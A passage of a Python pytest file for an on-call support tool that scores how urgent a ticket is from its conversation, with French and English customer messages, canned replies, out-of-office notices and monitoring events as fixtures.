"""Whose turn it is, read from the conversation: closings, acknowledgements, bounces, chasers, broadcasts,
the customer's own deadline.

Small stories an on-call engineer would read the same way, and the explanation they would want to see.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta, timezone

import pytest

from oncall_tui.core.heat_score import is_troubled
from oncall_tui.core.model import Event

from .models import (
    LEXICON,
    WEIGHTS,
    fold_events,
    heat_value,
    mode_of,
    score,
    steady_points,
)

UTC = timezone.utc
T0 = datetime(2026, 11, 24, 1, 0, tzinfo=UTC)


def at(hours: float = 0, minutes: float = 0) -> datetime:
    return T0 + timedelta(hours=hours, minutes=minutes)


def customer(when, text="Bonjour, le certificat de mon site a expiré. Pouvez-vous regarder ?", kind="message"):
    return Event(when, kind, "in", "Jean", text, "email")


def us(when, text="Bonjour, j'ai émis le certificat, le cadenas s'affiche maintenant.", name="alice"):
    return Event(when, "message", "out", name, text, "email")


def note(when, text):
    return Event(when, "note", "internal", "carla", text, "note")


def heat(events, now, **kw):
    kw.setdefault("status", "open")
    kw.setdefault("tier", "standard")
    return score(fold_events(events), opened_at=events[0].at, now=now, **kw)


def terms(h) -> dict[str, str]:
    return {t.name: t.value for t in h.terms}


# --- probably done ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text, said", [
    ("Merci beaucoup, tout fonctionne, vous pouvez fermer le ticket.\n\nJean", "'fermer le ticket', 'tout fonctionne', 'vous pouvez fermer'"),
    ("All good now, thanks!", "'all good'"),
    ("All good now, please close the ticket. Thanks!", "'all good', 'close the ticket', 'please close'"),
    ("Thanks, that did the trick. All good now!", "'all good', 'that did the trick'"),
    ("C'est bon, plus d'alerte chez les partenaires. Merci Alice, on peut fermer.",
     "'c'est bon', 'on peut fermer', 'plus d'alerte'"),
    ("Webmail works again and I changed the password on my phone too. Thanks, you can close the ticket.",
     "'close the ticket', 'works again', 'you can close'"),
    # A closing phrase outweighs mild words ("depuis hier" says since when it works) ...
    ("Bonjour,\nmerci, tout fonctionne depuis hier, vous pouvez fermer le ticket.\nBonne journée",
     "'fermer le ticket', 'tout fonctionne', 'vous pouvez fermer'"),
    # ... and "mais merci" thanks, it raises no new problem.
    ("C'est bon ça remarche tout seul, je ne sais pas ce que vous avez fait mais merci !",
     "'c'est bon', 'ça remarche'"),
    # After an outage: what was down is up again.
    ("Back up now, thanks for the updates. Lucy", "'back up now'"),
    ("The VM came back up overnight and everything's running fine now. Thanks, Gavin", "'came back up', "
     "'running fine now'"),
    ("Le site est de nouveau en ligne, merci pour votre réactivité.", "'de nouveau en ligne'"),
    # ...or better, however grudgingly said.
    ("Ça va mieux. J'espère que ça ne se reproduira pas.", "'ça va mieux'"),
    ("Much better now, cheers.", "'much better now'"),
    ("Bien reçu vos messages, merci. Tout semble revenu à la normale de notre côté.",
     "'revenu à la normale', 'semble revenu'"),
    # ...or that they did it themselves, with the link we sent.
    ("Grâce à votre documentation j'ai réussi, l'alias fonctionne. Merci beaucoup et belle soirée.", "'j'ai réussi'"),
    ("I managed it with your guide, thanks!", "'i managed'"),
    # ...or in the plainest words, or leaving the closing to us.
    ("Super ça marche, sur l'ordinateur et sur le téléphone ! Merci beaucoup.", "'super ça marche'"),
    ("Perfect, the new CSS is live. Thanks, bye!", "'is live'"),
    ("Our checks have been green for 20 minutes and orders are coming through. Happy for you to close this once "
     "the incident is formally closed.", "'happy for you to close'"),
    # ...or takes back what they reported.
    ("False alarm, sorry! Our intern had switched the shop to maintenance mode. Kind regards, Hugh",
     "'false alarm'"),
    ("Laissez tomber, c'est mon fils qui avait changé la photo d'accueil. Désolé du dérangement !", "'laissez tomber'"),
    # ...twice over, over the words of what they take back.
    ("Fausse alerte : c'était notre box qui avait planté, tout remarche depuis qu'on l'a redémarrée. Vous pouvez "
     "oublier mon message.", "'c'était notre box', 'fausse alerte', 'pouvez oublier mon message'"),
    # "ça marche" ending its sentence.
    ("Ah d'accord, il fallait vider le cache du navigateur, ça marche ! Bonne soirée", "'ça marche'"),
    # ...or needs nothing more now and will come back another time.
    ("Launch went fine today in the end, we never found the time to run the test. We'll probably do one in "
     "September; I'll reopen then. Thanks anyway!", "'I'll reopen', 'thanks anyway'"),
    ("Finalement on a fait sans, le salon est passé. Merci quand même, je rouvrirai si besoin.",
     "'je rouvrirai', 'merci quand même'"),
])
def test_a_closing_message_marks_the_case_probably_done(text, said):
    story = [customer(at(0)), us(at(1)), customer(at(20), text)]
    h = heat(story, at(20, 30), tier="critical")
    assert h.probably_done
    assert terms(h)["done"] == f"probably done: they said {said}"
    assert h.score <= 5 and "waiting" not in terms(h)


@pytest.mark.parametrize("text", [
    "Merci, tout fonctionne. Pouvez-vous aussi ajouter un compte FTP ?",  # a new question
    "It works on my laptop but not on my phone.",  # a "but"
    "Toujours pas, rien ne fonctionne. Vous pouvez fermer le ticket si vous voulez, inadmissible.",  # angry
    "Tout fonctionne mais les mails ne partent plus depuis hier.",  # a "but" that is not a thank-you
    # A yes to what we offered: "parfait" says the plan suits them, and asks us to carry it out.
    "Oui allez-y ce soir, c'est parfait, avant minuit si possible. Merci !",
    "Perfect, please go ahead with the upgrade tonight. Thanks!",
    # A new request without a question mark.
    "So we're all set for 14:00 UTC today. The auditors join at 13:45, please send the bridge details.",
    "C'est bon pour nous, merci de m'envoyer la facture rectifiée.",
    # Taking back one thing is not saying the rest works.
    "Never mind the invoice, the site has been down for an hour now!!",
    "Fausse alerte pour le certificat. Par contre le site est en panne depuis une heure.",
    "False alarm about the invoice. The checkout has been down for an hour though, customers can't pay!",
    # A closing said not to be so, often in the words of our broadcast.
    "Chez nous ce n'est pas revenu à la normale, les pages mettent toujours 12 secondes.",
    "It's not back to normal yet for us, the admin still times out.",
    # "ça marche" typed without its "ne"; "cela fonctionne" where it works.
    "ça marche pas, toujours la même page d'erreur",
    "Les patients voient « Connexion refusée ». Chez nous, sur le réseau du cabinet, cela fonctionne.",
    # It works somewhere: where they are, not where their visitors are.
    "Overnight about 30 customers in the US and Canada wrote that our site gives an error. From Dublin it works "
    "fine. About 70% of our orders come from North America.",
    "Since 9:00 nobody in our office can reach our CRM (connection timeout). From home on 4G it works.",
    "Les clients disent que la page de paiement affiche une erreur. Ici ça marche. Je ne comprends pas.",
    "Le site s'affiche en page blanche pour nos clients, ça fonctionne sur mon téléphone seulement.",
    # ...or from one country: their visitors abroad are refused.
    "Plusieurs clients belges et suisses nous signalent que notre site affiche « Accès refusé » depuis hier soir. "
    "Depuis la France tout fonctionne. Décembre représente 30 % de nos ventes à l'export...",
    # ...or off our servers: on their own machine it works, on ours it crashes.
    "Petite précision : en local en PHP 8.3 ça marche. Donc ça ressemble à un souci de cache OPcache ou de config "
    "côté serveur. Le client arrive à 18h.",
    "Locally it works fine now, so it must be something on the server.",
])
def test_a_confirmation_with_a_new_question_or_a_complaint_is_not_done(text):
    h = heat([customer(at(0)), us(at(1)), customer(at(2), text)], at(3))
    assert not h.probably_done and "waiting" in terms(h)


def test_a_commercial_matter_waits_for_the_sales_team_however_loud():
    quote = [customer(at(-24 * 5), "Bonjour, nous souhaiterions un devis pour un deuxième serveur."),
             customer(at(-1), "TOUJOURS RIEN ?? C'est INADMISSIBLE pour un simple devis, on ira voir ailleurs !!!")]
    chore = [customer(at(-24 * 5), "Bonjour, pourriez-vous ajouter un alias mail contact@ vers paul@ ?"),
             customer(at(-1), "TOUJOURS RIEN ?? C'est INADMISSIBLE pour un simple alias, on ira voir ailleurs !!!")]
    down = [customer(at(0), "Bonjour, depuis ce matin le site du collège affiche « Erreur lors de la connexion à la "
                            "base de données ». Pourriez-vous regarder quand vous aurez un moment ?")]
    h = heat(quote, at(0, 30))
    assert terms(h)["sales"] == "a billing or commercial matter: 'devis'"
    assert h.score < heat(chore, at(0, 30)).score and h.score < heat(down, at(0, 30)).score


@pytest.mark.parametrize("text, said", [
    ("Hello, please put our PO number 4500-118 on the November invoice, finance won't pay it without one!!", "'po number'"),
    ("URGENT: the billing address on our invoices is STILL the old one. Third time I ask.", "'billing address'"),
    ("Bonjour, le numéro de TVA sur vos factures est faux, merci d'envoyer un duplicata corrigé.",
     "'duplicata', 'numéro de tva'"),
])
def test_paperwork_on_an_invoice_is_a_commercial_matter(text, said):
    h = heat([customer(at(0), text)], at(30))
    assert terms(h)["sales"] == f"a billing or commercial matter: {said}" and h.score <= WEIGHTS.chore_cap


def test_a_commercial_matters_deadline_is_the_sales_teams_not_the_on_calls():
    invoice = [customer(at(-30), "Bonjour, la facture F-2026-118 porte encore notre ancienne raison sociale. Il nous "
                                 "faut une facture rectificative avant le 24/11 à 12h, date de notre clôture."),
               customer(at(-1), "TOUJOURS RIEN ??? Notre clôture est aujourd'hui à midi, c'est INADMISSIBLE !!!")]
    down = [customer(at(11), "Bonjour, depuis ce matin le site du collège affiche « Erreur lors de la connexion à "
                             "la base de données ». Pourriez-vous regarder quand vous aurez un moment ?")]
    h = heat(invoice, at(12), tier="critical")
    assert fold_events(invoice).due == "Tue 24 Nov 12:00"  # read, and kept for the sales team
    assert "deadline" not in terms(h)
    assert terms(h)["sales"].endswith("(their deadline is the sales team's)")
    assert h.score < heat(down, at(12)).score


def test_a_refund_asked_on_an_outage_is_still_the_outage():
    story = [customer(at(0), "Our shop has been down since 6am, customers can't pay."),
             customer(at(1), "Still down. And I want a refund for today.")]
    h = heat(story, at(2))
    assert "sales" not in terms(h) and "down" in terms(h)


def test_an_expiry_in_the_notice_they_quote_is_their_deadline():
    quoted = ("Bonsoir, nous avons reçu le message ci-dessous et je ne comprends pas ce qu'il faut faire.\n\n"
              "> Le renouvellement automatique du certificat SSL pour www.mairie-aubin.fr a échoué.\n"
              "> Expiration du certificat actuel : 24/11/2026 04:00 UTC.\n\nMerci, Annie")
    h = heat([customer(at(0), quoted)], at(1))
    assert terms(h)["deadline"].startswith("their deadline Tue 24 Nov 04:00")


def test_a_reminder_of_a_plan_weeks_away_is_no_missed_promise():
    story = [customer(at(0), "Could you upgrade our booking platform to PHP 8.3 in January?"),
             us(at(1), "Yes: staging on 12 January, production on 26 January. I'll send the runbook in the week "
                       "of 11 January."),
             customer(at(2), "Perfect, thanks. Talk in January."),
             customer(at(24 * 16), "Happy new year! Just a reminder about the runbook; no rush, the week of the 11th "
                                   "is fine.")]
    h = heat(story, at(24 * 16, 30), tier="critical")
    assert "promised" not in terms(h) and terms(h)["waiting"] == "waiting 30 min"
    # Their "talk in January" asked nothing new: nobody waited on us before the reminder.
    assert fold_events(story[:3]).ack == "talk in" and "waiting" not in terms(heat(story[:3], at(5)))


@pytest.mark.parametrize("back", [
    "C'est revenu, merci ! Juste une question pour plus tard : faut-il mettre à jour notre thème ?",
    "The shop is back up now, thanks. Out of curiosity, what caused it?",
    # A "but" of its own sentence is anger at the outage that was, not an outage still going on.
    "Bon c'est revenu. MAIS C'EST INADMISSIBLE. 4 HEURES SANS SITE. Je veux un rapport d'incident écrit, sinon je "
    "change d'hébergeur.",
])
def test_saying_it_is_back_with_a_question_ends_the_outage_not_the_wait(back):
    down = [customer(at(0), "Notre site ne s'affiche plus (page blanche) depuis ce matin.")]
    h = heat([*down, customer(at(2), back)], at(3))
    assert "down" not in terms(h) and "waiting" in terms(h)
    # ...but it still is, for them, if they say so in the same breath.
    again = "C'est revenu sur l'ordinateur mais la boutique ne s'affiche plus sur mobile, pourquoi ?"
    assert "down" in terms(heat([*down, customer(at(2), again)], at(3)))


# A trouble said to be over, or told in the past with nothing saying it still is, is not down (nor frustration that
# keeps a closing from closing); the same trouble said in the present is.
OVER = [
    ("Le site n'est plus en panne, pouvez-vous m'expliquer la cause ?", "Le site est en panne, pouvez-vous regarder ?"),
    ("Plus aucune erreur 500 depuis hier soir. Que s'est-il passé ?", "Des erreurs 500 depuis hier soir. Que se passe-t-il ?"),
    ("Le site ne plante plus depuis votre intervention, mais pourquoi c'est arrivé ?",
     "Le site plante depuis votre intervention, pourquoi ?"),
    ("The 502 errors are gone. Can you tell us what caused them?", "The 502 errors are back. Can you tell us why?"),
    ("No more 502s since your fix. Could you explain what happened?", "Still 502s after your fix. What happened?"),
    ("Zero 502 since yesterday evening. What was the cause?", "502 again since yesterday evening. What is the cause?"),
    ("It is no longer down, but what caused it?", "It is down again, what causes it?"),
    ("The site was down because of the plugin? Can you explain?", "The site is down because of the plugin? Can you check?"),
]


@pytest.mark.parametrize("over, ongoing", OVER)
def test_a_trouble_said_to_be_over_is_not_an_outage(over, ongoing):
    down = [customer(at(0), "Notre boutique affiche une erreur 502 depuis ce matin."), us(at(1))]
    ended, still = heat([*down, customer(at(2), over)], at(3)), heat([*down, customer(at(2), ongoing)], at(3))
    assert "down" in terms(still) and still.score >= 75
    assert "down" not in terms(ended) and "waiting" in terms(ended) and ended.score < 40


@pytest.mark.parametrize("text", [
    "C'est réglé, plus d'erreur 500. Merci !",
    "Ça remarche, le site n'est plus en panne, merci",
    "Merci, tout fonctionne. Le site était en panne à cause du plugin.",
    "Thanks, all good now. The site was down because of the plugin.",
])
def test_a_closing_that_tells_the_trouble_as_over_closes(text):
    h = heat([customer(at(0), "Le site est en panne depuis ce matin !"), us(at(1)), customer(at(2), text)], at(3))
    assert h.probably_done and "down" not in terms(h) and h.score <= 5


@pytest.mark.parametrize("text", [
    "C'est revenu ce matin dès 7h avec le pic des chauffeurs, maintenant c'est 1 requête sur 3 en 502.",
    "C'est revenu ce matin, encore des 502.",
])
def test_cest_revenu_beside_what_is_down_is_the_trouble_back(text):
    story = [customer(at(0), "Bonjour, 502 sur api.transports.fr, environ 1 requête sur 10."),
             us(at(1), "Le pool PHP-FPM était saturé, je l'ai passé à 60 et rechargé le service."),
             customer(at(20), text)]
    h = heat(story, at(21), tier="critical")
    assert not h.probably_done and "down" in terms(h) and h.score >= 75
    # Said alone, it works again.
    assert heat([*story[:2], customer(at(20), "C'est revenu, merci beaucoup.")], at(21)).probably_done


def test_ca_marche_going_on_is_a_deal_not_a_closing():
    h = heat([customer(at(0)), us(at(1)), customer(at(2), "Ok ça marche, je teste demain matin et je vous dis.")], at(3))
    assert not h.probably_done and terms(h)["cooling"] == "their move: they said 'je teste'"


def test_writing_again_after_saying_it_works_reopens_the_wait():
    story = [customer(at(0)), us(at(1)), customer(at(2), "All good now, thanks!"),
             customer(at(5), "Sorry, it is broken again this morning.")]
    h = heat(story, at(6))
    assert not h.probably_done and terms(h)["waiting"] == "waiting 1 h"


# --- their move --------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, why", [
    ("Merci, je teste ce soir et je vous redis.", "their move: they said 'je teste', 'je vous redis'"),
    ("Thanks, I'll test it with the team tomorrow.", "their move: they said 'I'll test'"),
    ("Merci !", "their move: they only said thanks"),
    # ...signed, or naming whom it thanks and what for.
    ("Merci beaucoup ! Jean", "their move: they only said thanks"),
    ("Thank you so much, Alice.", "their move: they only said thanks"),
    ("Merci pour votre réactivité.", "their move: they only said thanks"),
    # ...a see-you at the time agreed, a look of their own later, progress they are glad of.
    ("Parfait, merci beaucoup. À mardi !", "their move: they said 'à mardi'"),
    ("Merci, je vérifie demain matin que tout arrive bien côté Microsoft.", "their move: they said 'je vérifie demain'"),
    ("Great progress, thanks Alice.", "their move: they said 'great progress'"),
    ("Parfait, merci. On en reparle après les fêtes.", "their move: they said 'on en reparle'"),
    # ...or reassured by what we explained.
    ("Thanks Tom, good to know. I'll do the monthly report on Monday then.", "their move: they said 'good to know'"),
    ("Merci, me voilà rassurée, rien n'est perdu.", "their move: they said 'me voilà rassuré', 'rien n'est perdu'"),
    ("Nous y serons. J'espère que vous aurez des réponses concrètes.", "their move: they said 'nous y serons'"),
    # ...or content to wait for what comes next.
    ("Merci pour ces explications claires, on patiente. Ce n'est pas dramatique pour nous.",
     "their move: they said 'merci pour ces explications'"),
    ("Thanks for the explanations, we'll sit tight until Microsoft lets the mail through.",
     "their move: they said 'thanks for the explanations', 'we'll sit tight'"),
    # ...or they will decide on their side and come back.
    ("Thanks Alice, I'll discuss it with our finance director next week and come back to you.",
     "their move: they said 'come back to you'"),
    # Mild words around it ("all day", "encore") do not make it a complaint.
    ("OK, I'm out all day, will try it tonight and let you know.", "their move: they said 'will try'"),
    # ...even naming a deadline days away.
    ("Noted. I will be escalating if the credit is not confirmed in writing by Thursday.",
     "their move: they said 'noted'"),
])
def test_an_acknowledgement_after_our_answer_leaves_the_ball_in_their_court(text, why):
    h = heat([customer(at(0)), us(at(1)), customer(at(2), text)], at(8))
    assert terms(h)["cooling"] == why and "waiting" not in terms(h)


@pytest.mark.parametrize("text", [
    "I haven't managed to make it work, the alias still bounces.",
    "Je n'ai pas réussi, pouvez-vous le faire ?",
    "Thanks, will try it tonight. But the site is still down for our customers!",
    "I'll check, but this is unacceptable, we are losing orders.",
    # ...or with their own deadline, said to remind us of it.
    "D'accord. On compte sur vous demain matin : nos 40 agences ouvrent à 8h30. Merci de me tenir informé.",
    "OK, thanks. Keep me posted: our launch is tomorrow at 9am.",
])
def test_an_acknowledgement_with_a_real_complaint_still_waits_on_us(text):
    h = heat([customer(at(0)), us(at(1)), customer(at(2), text)], at(8))
    assert "waiting" in terms(h) and "cooling" not in terms(h)


@pytest.mark.parametrize("text", [
    # Waiting said as a complaint, not as an agreement to wait.
    "Je patiente depuis 3 jours.",
    "On patiente encore, c'est long.",
    "We've been sitting tight since Monday.",
])
def test_saying_how_long_they_have_been_waiting_is_no_acknowledgement(text):
    h = heat([customer(at(0)), us(at(1)), customer(at(2), text)], at(8))
    assert "waiting" in terms(h) and "cooling" not in terms(h)


def test_an_acknowledgement_does_not_answer_our_own_silence():
    h = heat([customer(at(0)), customer(at(1), "Ok, I'll test tonight.")], at(3))
    assert terms(h)["waiting"] == "waiting 3 h" and "cooling" not in terms(h)


# --- on the chat --------------------------------------------------------------------------------------

def test_a_customer_waiting_on_the_chat_comes_before_the_same_wait_by_mail_until_we_answer():
    text = "Bonjour, ma boîte mail est bloquée : « compte verrouillé ». Toujours là ?"
    chat = Event(at(0), "chat", "in", "Jean", text, "chat")
    mail = customer(at(0), text)
    live, by_mail = heat([chat], at(0, 12)), heat([mail], at(0, 12))
    assert terms(live)["live"] == "waiting on the chat" and "live" not in terms(by_mail)
    assert live.score > by_mail.score
    # A mail from them afterwards does not make the wait on the line lighter; our answer or their closing ends it.
    assert "live" in terms(heat([chat, customer(at(0, 5), "Je vous envoie la capture par mail.")], at(0, 12)))
    assert "live" not in terms(heat([chat, us(at(0, 10), "Je débloque le compte, c'est fait.")], at(0, 12)))
    thanks = Event(at(0, 11), "chat", "in", "Jean", "C'est bon, tout fonctionne, merci !", "chat")
    assert "live" not in terms(heat([chat, us(at(0, 10)), thanks], at(0, 12)))


# --- bounced to the docs -----------------------------------------------------------------------------

DOC_LINK = ("Bonjour,\n\nVous trouverez la procédure dans notre documentation : "
            "https://docs.example.net/ssl/lets-encrypt\n\nCordialement,\nBob – Support")


def test_a_link_to_the_docs_does_not_stop_the_clock():
    h = heat([customer(at(0)), us(at(0, 30), DOC_LINK, "bob")], at(5))
    assert terms(h)["waiting"] == "waiting 5 h"
    assert terms(h)["bounced"] == ("1 reply of ours only pointed to the docs or a template: the clock still runs")
    assert "cooling" not in terms(h)


@pytest.mark.parametrize("author, reply", [
    ("Alveo Support (automatic reply)", "Thanks for getting in touch. Ticket #88331 has been created and an engineer "
                                        "will respond shortly."),
    ("Support Alveo (réponse automatique)", "Votre demande n° 4471 a été créée, un technicien la prendra en charge."),
    ("support-bot", "We're on it! Your request is in the queue."),
    # The chat's assistant, holding the line until a person takes it.
    ("Assistant virtuel", "Merci pour votre message ! Nous arrivons."),
    ("Virtual assistant", "Thanks! Hang on."),
    # A watching tool mailing them what it saw.
    ("security-watch", "Bonjour, une connexion inhabituelle a été détectée sur votre compte depuis un nouvel appareil."),
])
def test_what_our_helpdesk_sends_by_itself_is_no_answer_whatever_it_says(author, reply):
    # Nobody read their message: the clock runs, and the outage they told us of is still theirs.
    down = customer(at(0), "Since 9pm every payment on our ticket shop fails, customers are charged and get nothing.")
    h = heat([down, us(at(0, 1), reply, author)], at(2))
    assert terms(h)["waiting"] == "waiting 2 h" and "down" in terms(h)


def test_a_canned_receipt_after_a_tool_acted_is_still_no_answer():
    # A tool logged something on the case first (the panel's audit of a login from abroad): the helpdesk's
    # receipt that follows answers nothing, and what is at risk stays at risk.
    audit = Event(at(0), "action", "internal", "hb-panel-audit",
                  "event=ftp_user_create login=bkp_sync home=/home/brixton/public_html", "tool")
    worried = customer(at(0, 5), "Nobody here logged in at 13:24 and there is an FTP user that none of us created.")
    receipt = us(at(0, 6), "Hello,\n\nThank you for contacting Example Hosting. Your request has been logged as "
                           "HB-2027-040158.\nOne of our engineers will get back to you as soon as possible.\n\n"
                           "This is an automated message, please do not reply to it directly.", "Example Support")
    h = heat([audit, worried, receipt], at(1))
    assert terms(h)["waiting"] == "waiting 55 min" and "risk" in terms(h) and "cooling" not in terms(h)


def test_an_engineer_whose_name_ends_in_bot_is_a_person():
    down = customer(at(0), "Since 9pm every payment on our ticket shop fails, customers are charged and get nothing.")
    h = heat([down, us(at(0, 30), "I've renewed the certificate on tickets.; payments go through again.", "Talbot")],
             at(2))
    assert "waiting" not in terms(h) and "down" not in terms(h)


def test_coming_back_after_a_link_adds_a_bounced_term():
    story = [customer(at(0)), us(at(0, 30), DOC_LINK, "bob"),
             customer(at(4), "J'ai lu votre page mais je ne comprends rien. Vous pouvez le faire pour moi ?")]
    h = heat(story, at(5))
    bounced = next(t for t in h.terms if t.name == "bounced")
    assert bounced.value == ("1 reply of ours only pointed to the docs or a template; "
                             "came back 1\u00d7 with the same request")
    assert bounced.points > 0 and terms(h)["waiting"] == "waiting 5 h"


@pytest.mark.parametrize("reply", [
    "Votre demande a bien été enregistrée. Pour toute question, consultez notre FAQ : https://docs.example.net/faq",
    "Hello! As my colleague said, please follow the steps in our guide: https://docs.example.net/ssl",
    "Hello,\n\nPlease refer to our knowledge base article: https://help.example.net/kb/dns-zone\n\nThe Support Team",
    # The script's opening, asking for what any case is asked: their first message is not read.
    "Hi Sam,\n\nThanks for contacting Example Hosting support. Please try again in a private window and tell us "
    "if the problem is still there.\n\nBest regards",
    "Bonjour,\n\nMerci d'avoir contacté notre support. Pouvez-vous nous préciser la page concernée et nous joindre "
    "une capture ?\n\nBien cordialement",
    # The helpdesk's own receipt, sent before anyone read the message.
    "Bonjour, nous accusons réception de votre demande n° 88361. Un membre de notre équipe vous répondra dès que "
    "possible.",
    "Hello, your ticket reference is #88344. We'll be in touch as soon as we can. – Support",
    # The chat's holding message, whoever the chat names as its author.
    "Merci pour votre message ! Un conseiller va vous répondre. Temps d'attente estimé : 3 minutes.",
    "Thanks for your message! Estimated wait time: 2 minutes.",
    # The stock answer to a site that does not show everywhere: wait for the network.
    "Hello Bruno,\n\nDNS propagation can take up to 48 hours. Please wait and clear your browser cache.\n\nRegards, Wen",
    "Bonjour, la propagation DNS peut prendre jusqu'à 48 h. Videz le cache de votre navigateur et réessayez demain.",
])
def test_canned_replies_and_doc_links_are_bounces(reply):
    stats = fold_events([customer(at(0)), us(at(1), reply)])
    assert stats.bounces == 1 and stats.wait_t is not None


@pytest.mark.parametrize("reply", [
    "Hi Hannah, I've updated the zone for you; details: https://help.example.net/kb/dns-zone",
    "C'est fait : DKIM est activé. La doc : https://docs.example.net/mail/dkim",
    "Could you send us the exact error and the time it happened?",
    "Your site https://garage-bernard.fr loads fine from here, with the padlock.",
    # A status page on a provider whose own name holds "help", the link closed by a bracket: no docs.
    "Hi Oliver, this is the statistics incident (status page: https://status.hosting-help.net). Nothing is lost, "
    "your sites and mail are not affected.",
    "Please see our Let's Encrypt guide.",  # no link: not "only a link" (spoken, it would be)
    # What was done, then the wait for the network.
    "Hi Bruno, I've removed the old AAAA record at the registrar. Propagation can take up to an hour.",
    "Bonjour, j'ai corrigé l'enregistrement A. La propagation peut prendre une heure ; videz le cache de votre "
    "navigateur si besoin.",
    "Could you clear your browser cache and try again?",  # a step for them to try: their move
    "Bonjour, le certificat est émis. " + "Voici ce que nous avons vérifié en détail. " * 12
    + "https://docs.example.net/ssl",  # a long, real answer with a link
])
def test_an_answer_with_a_link_is_still_an_answer(reply):
    stats = fold_events([customer(at(0)), us(at(1), reply)])
    assert stats.bounces == 0 and stats.wait_t is None


def test_pointing_to_the_docs_again_without_the_link_is_one_more_bounce():
    story = [customer(at(0)), us(at(0, 30), DOC_LINK, "kenji"), customer(at(1), "Je comprends rien."),
             us(at(1, 5), "Sorry, I don't speak French. The guide explains everything, please have a look.", "priya")]
    stats = fold_events(story)
    assert stats.bounces == 2 and stats.wait_t == int(at(0).timestamp())


def test_a_link_after_an_action_on_the_case_is_an_answer():
    action = Event(at(0, 50), "action", "out", "alice", "certificate issued for garage.fr", "tool")
    stats = fold_events([customer(at(0)), action, us(at(1), DOC_LINK)])
    assert stats.bounces == 0 and stats.wait_t is None


@pytest.mark.parametrize("author, text", [
    ("Système", "Accusé de réception automatique envoyé au client (délai de réponse habituel : 4 h ouvrées)."),
    ("system", "Auto-assigned to on-call engineer: Kyle."),
])
def test_what_the_helpdesk_records_by_itself_is_no_action_on_the_case(author, text):
    # Only an engineer acting on the case makes a link after it an answer; the helpdesk's own record does not.
    recorded = Event(at(0, 1), "action", "internal", author, text, "tool")
    stats = fold_events([customer(at(0)), recorded, us(at(1), DOC_LINK)])
    assert stats.bounces == 1 and stats.wait_t == int(at(0).timestamp())


def test_a_machine_s_action_says_what_is_at_stake_like_the_monitoring_s_note():
    spam = Event(at(0), "action", "internal", "abuse-bot",
                 "Outbound spam threshold exceeded: compta@cabinet-dewitte.be sent 18,420 messages in 40 min via SMTP "
                 "AUTH from 41.58.x.x (NG). Relay smtp-out-3 listée sur Spamhaus SBL since 02:01Z.", "tool")
    h = heat([spam, note(at(0, 3), "Customer not contacted yet. Need to lock the mailbox.")], at(0, 15))
    assert terms(h)["down"] == "a note says it is down: 'listée sur spamhaus'"
    routine = heat([customer(at(-30), "Bonjour, la déclaration RGPD pour le golf, pas d'échéance avant un mois.")],
                   at(0, 15))
    assert h.score > routine.score


@pytest.mark.parametrize("author", ["cert-check", "http_check", "tls-watch"])
def test_a_check_tool_s_output_is_the_monitoring_s_note_not_an_engineer_acting(author):
    expired = Event(at(1), "action", "internal", author,
                    "mail.hartstone.co.uk:993 EXPIRED (notAfter 2027-11-25 17:00 GMT). Auto-renewal failed 3x. "
                    "Phones and Outlook with strict validation will refuse to connect.", "tool")
    story = [customer(at(0), "Hi, no rush, Outlook shows a certificate warning for mail.hartstone.co.uk."),
             us(at(0, 30), "Hi Julia, could you send us a screenshot of the warning?"), expired]
    h = heat(story, at(2))
    assert terms(h)["down"] == "a note says it is down: 'will refuse to connect'"
    assert not fold_events(story).acted  # no engineer did anything yet


def test_a_domain_expiry_the_billing_system_records_is_due_whatever_reminders_we_send():
    failed = Event(at(0), "action", "internal", "billing",
                   "Auto-renewal failed for ballymorepharmacy.ie: card ending 4421 expired. Domain expires "
                   "2026-11-27 23:59 UTC. Website and email (incl. prescriptions@) will stop at expiry.", "tool")
    reminder = us(at(0, 1), "Dear customer, we were unable to renew your domain. Please update your payment method "
                            "in your customer area to avoid any interruption.", "Billing")
    h = heat([failed, reminder], at(60))
    assert terms(h)["deadline"] == "their deadline Fri 27 Nov 23:59 (their time) in 1 d 11 h"
    assert h.score > heat([failed, reminder], at(0, 2)).score  # nearer, hotter


# --- chasing, broadcasts, what is not counted ---------------------------------------------------

def test_writing_again_before_any_answer_is_chasing_us():
    story = [customer(at(0)), customer(at(0, 5), "PS: the domain is garage.fr"),
             customer(at(3), "Bonjour, avez-vous pu regarder ?")]
    assert terms(heat(story, at(4)))["chased"] == "wrote again 1\u00d7 before any answer"


def test_a_broadcast_is_shown_as_not_an_answer():
    story = [customer(at(0), "Notre boutique est inaccessible."),
             Event(at(0, 30), "message", "out", "mehdi", "[Incident SBG] Nous enquêtons.", "email", broadcast=True)]
    h = heat(story, at(1, 20))
    assert terms(h)["waiting"] == "waiting 1 h 20 min"
    assert terms(h)["not counted"] == "1 broadcast update not counted as answers"
    assert fold_events(story).exchanges == 1 and fold_events(story).engineers == []


@pytest.mark.parametrize("away", [
    "Automatic reply: Re: your ticket\n\nI'm away until Wednesday 9 December. Your message has not been forwarded.",
    "Réponse automatique : Bureau fermé jusqu'au 4 janvier. Pour toute urgence, appelez le 03 .. .. .. ..",
    "Thanks for your message. I am currently on annual leave, returning 7 January, with no access to email. "
    "For anything urgent please contact accounts@brindle-hall.co.uk\n\nMaggie",
    "Bonjour,\nJe suis en congés jusqu'au 12 août inclus. En cas d'urgence, merci de joindre mon collègue "
    "Loïc (loic@atelier-vache.fr).\nCordialement,\nSéverine",
])
def test_an_out_of_office_answering_us_is_not_the_customer_writing(away):
    story = [customer(at(0), "Mon site affiche une erreur 500 depuis ce matin !! URGENT"), us(at(0, 40))]
    with_away = [*story, Event(at(0, 41), "message", "in", "Jean", away, "email")]
    plain, auto = heat(story, at(3)), heat(with_away, at(3))
    assert auto.score == plain.score
    assert terms(auto)["not counted"].endswith("1 automatic reply (out of office) not read")
    assert "chased" not in terms(auto) and "repeats" not in terms(auto)


@pytest.mark.parametrize("text", [
    "I'm away until Monday but the shop still shows the old prices, for anything urgent call me on 07700 900123",
    "Je suis absente jusqu'à lundi : pouvez-vous me dire si la migration est faite ? En cas d'urgence, mon portable.",
    "Hello, how do I set an automatic reply on my mailbox? I'm on holiday from Friday.",
])
def test_a_person_who_is_away_but_writes_is_read(text):
    story = [customer(at(0)), us(at(0, 40)), Event(at(1), "message", "in", "Jean", text, "email")]
    h = heat(story, at(3))
    assert "automatic" not in terms(h).get("not counted", "")
    assert terms(h)["waiting"] == "waiting 2 h"


def test_a_person_thanking_us_before_saying_they_are_away_is_read():
